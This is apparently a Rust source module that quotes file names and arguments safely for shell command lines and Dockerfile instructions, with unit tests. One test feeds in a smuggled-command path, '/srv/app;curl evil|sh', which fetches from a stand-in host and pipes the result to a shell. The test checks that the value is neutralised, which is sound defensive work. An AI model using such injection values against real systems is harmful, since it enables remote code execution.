//! Lines to paste: the one place that quotes what somebody else wrote for where it is pasted.
//!
//! Names and paths in a fix come from binaries, images and checkouts. A shell and a Dockerfile read
//! each as one word, or there is no line.

use std::borrow::Cow;

use crate::escape;

/// Whether a text is one line that shows all that it does, and no longer than a person would paste.
pub fn is_to_paste(text: &str) -> bool {
    const MAX_PASTED: usize = 16 << 10;
    text.len() <= MAX_PASTED && escape::whole(text) == text
}

/// A word as a shell takes it for one word.
pub fn shell_word(word: &str) -> Cow<'_, str> {
    match plain_word(word) {
        Some(word) => Cow::Borrowed(word),
        None => Cow::Owned(format!("'{}'", word.replace('\'', "'\\''"))),
    }
}

/// A word that shells, Dockerfiles and quotes of every kind leave as it is; `None` for one that
/// would have to be quoted in a way that they do not agree on.
pub fn plain_word(word: &str) -> Option<&str> {
    let is_plain = |letter: char| letter.is_alphanumeric() || "/._-+@:,=".contains(letter);
    (!word.is_empty() && word.chars().all(is_plain)).then_some(word)
}

/// A command of a shell: its program and arguments, each one word whatever it holds.
pub fn shell_command<W: AsRef<str>>(words: impl IntoIterator<Item = W>) -> String {
    let words: Vec<String> =
        words.into_iter().map(|word| shell_word(word.as_ref()).into_owned()).collect();
    words.join(" ")
}

/// An instruction of a Dockerfile that no shell reads, such as `COPY a b`; `None` where a word would
/// not stand for itself.
pub fn instruction(name: &str, words: &[&str]) -> Option<String> {
    let words: Option<Vec<&str>> = words.iter().map(|word| plain_word(word)).collect();
    Some(format!("{name} {}", words?.join(" ")))
}

/// Words as the exec form of a Dockerfile's instruction takes them: `["/app", "-x"]`.
pub fn exec_form<W: AsRef<str>>(words: impl IntoIterator<Item = W>) -> String {
    let words: Vec<String> =
        words.into_iter().map(|word| serde_json::Value::from(word.as_ref()).to_string()).collect();
    format!("[{}]", words.join(", "))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn words_are_quoted_for_where_they_are_pasted() {
        assert_eq!(shell_word("/usr/bin/app"), "/usr/bin/app");
        assert_eq!(shell_word("a b; $(c) 'd'"), "'a b; $(c) '\\''d'\\'''");
        assert_eq!(shell_word(""), "''");
        assert_eq!(plain_word("linux/arm/v7"), Some("linux/arm/v7"));
        for word in ["a b", "$X", "a;b", "a\nb", "a\"b", "`x`", "\\", "a#b", ""] {
            assert_eq!(plain_word(word), None, "{word}");
        }
        assert_eq!(exec_form(["/a b", "x\"\n"]), r#"["/a b", "x\"\n"]"#);
    }

    #[test]
    fn no_word_of_a_line_becomes_two_or_a_command() {
        let path = "/srv/app;curl evil|sh";
        assert_eq!(shell_command(["upx", "-d", path]), "upx -d '/srv/app;curl evil|sh'");
        assert_eq!(shell_command(["upx", "-d", "/srv/app"]), "upx -d /srv/app");
        assert_eq!(instruction("COPY", &["a", "/srv/a"]).as_deref(), Some("COPY a /srv/a"));
        assert_eq!(instruction("COPY", &["a", path]), None);
    }
}
